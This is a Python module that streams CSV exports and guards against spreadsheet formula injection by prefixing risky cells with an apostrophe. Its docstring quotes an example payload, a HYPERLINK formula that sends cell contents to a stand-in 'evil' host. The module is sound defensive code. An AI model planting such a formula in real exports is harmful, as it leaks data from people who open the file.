"""The one CSV writer every export uses: streamed line by line, safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (CSV or "formula" injection, OWASP): a
patient's name typed as ``=HYPERLINK("http://evil/?"&A1,"Click")`` would run when the
director opens the audit export. Such a cell gets a leading apostrophe, which spreadsheets
show as text; plain numbers (``-2.5``) are left as they are, since they cannot be formulas.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any

__all__ = ["FORMULA_TRIGGERS", "csv_lines", "neutralise"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` with a leading apostrophe if a spreadsheet would read it as a formula."""
    is_text = isinstance(value, str)
    if is_text and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """CSV text line by line, for a ``StreamingHttpResponse``; every cell neutralised."""
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row])
